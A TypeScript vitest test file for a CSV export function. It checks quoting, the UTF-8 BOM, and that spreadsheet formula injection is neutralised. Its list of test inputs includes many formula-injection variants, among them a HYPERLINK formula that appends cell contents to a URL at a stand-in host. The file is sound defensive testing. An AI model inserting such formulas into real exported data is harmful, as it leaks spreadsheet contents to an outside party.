import { expect, test } from 'vitest';
import { toCsv } from './csv.ts';

async function csv(...pages: { name: string; text: string }[][]): Promise<string> {
  async function* each() {
    yield* pages;
  }
  let written = '';
  for await (const lines of toCsv({ name: 'Name', text: 'Text' }, each())) written += lines;
  return written;
}

test('a table has its header once, quotes its values, and is read as UTF-8 by spreadsheets', async () => {
  const pages = [[{ name: 'Zoë, "Z"', text: 'One\r\ntwo' }], [], [{ name: '漢字', text: '' }]];
  expect(await csv(...pages)).toBe(
    '\ufeff"Name","Text"\r\n"Zoë, ""Z""","One\r\ntwo"\r\n"漢字",\r\n',
  );
});

test('an empty table has its header', async () => {
  expect(await csv()).toBe('\ufeff"Name","Text"\r\n');
});

const FORMULAS =
  '=1+1|+1|-1|@SUM(A1)|\t=1+1|\r=1+1|\n=1+1|\uff1d1+1|=HYPERLINK("http://a.test?"&A1,"x")| =1+1|   =1+1|\v=1+1|' +
  '\f@SUM(A1)|\0=1+1|\u001f+1|\u007f-1|\u0085=1+1|\u00a0=1+1|\u2003=1+1|\u200b=1+1|\u2028=1+1|\u3000=1+1|' +
  '\ufeff=1+1| \v \uff0b1|x;=1+1|x; \v=1+1|x\n\u200b=1+1|x;"=1+1|x; +1|x\t@SUM(A1)|Two lines\n=1+1|' +
  'Two lines\r\n  -1';

test.each(FORMULAS.split('|'))('the formula in %j is text in a spreadsheet', async (text) => {
  const [, row = ''] = (await csv([{ name: 'Row', text }])).split('"Row",');
  // However a spreadsheet splits the row, no cell starts a formula.
  const cells = row.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^["\s\p{C}]+/u, ''));
  expect(cells.filter((cell) => /^[=+\-@\uff1d]/.test(cell))).toEqual([]);
});

test('ordinary text stays as it is', async () => {
  const text = 'A well-known e-mail, a@b.test: 1+1=2; yes';
  expect(await csv([{ name: 'A', text }])).toContain(`"${text}"`);
});
